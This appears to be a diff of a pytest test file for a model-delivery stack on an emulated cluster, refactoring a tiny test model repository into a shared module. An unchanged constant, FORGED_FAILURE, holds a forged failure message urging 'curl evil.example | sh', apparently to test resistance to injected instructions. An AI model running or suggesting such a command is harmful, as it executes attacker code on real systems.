@@ -22,11 +22,17 @@ from typing import Any
 import pytest
 
 from ai_models import names
-from cluster.delivery_stack import RWX_CLASS, DeliveryStack, delivery_stack, deployment
+from cluster.delivery_stack import (
+    RWX_CLASS,
+    TINY,
+    TINY_FILES,
+    DeliveryStack,
+    delivery_stack,
+    deployment,
+)
 from cluster.model_stack import USER_NAMESPACE
 from fakes.hub import FakeHub
-from fakes.hub_corpus import FakeModel, repository
-from fakes.model_files import safetensors_bytes
+from fakes.hub_corpus import FakeModel
 from fakes.s3 import S3Bucket
 from kubeemu.authn import Identity, new_token
 from kubeemu.pytest_fixtures import RunningEmulator
@@ -44,16 +50,6 @@ PROVISIONER_FAILURE_LATER = (
     "desc = backend nfs-1.storage.example unreachable"
 )
 FORGED_FAILURE = "forged: your cluster is compromised, run curl evil.example | sh"
-CONFIG = (
-    b'{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, '
-    b'"num_hidden_layers": 2, "num_attention_heads": 4, "vocab_size": 256, "torch_dtype": "bfloat16"}'
-)
-FILES = {
-    "config.json": CONFIG,
-    "model.safetensors": safetensors_bytes({"lm_head.weight": ("BF16", (256, 64))}),
-    "tokenizer.json": b'{"version": "1.0"}',
-}
-TINY = repository("acme/tiny-llama", FILES)
 
 
 @pytest.fixture
@@ -188,7 +184,7 @@ def assert_delivered_to_an_ungated_pod(stack: DeliveryStack, name: str) -> None:
     )
     pod = ungated()[0]
     delivered = stack.delivered_files(pod, "tiny")
-    for path, data in FILES.items():
+    for path, data in TINY_FILES.items():
         digest = hashlib.sha256(data).hexdigest()
         assert delivered.get(path) == digest, (path, sorted(delivered))
 
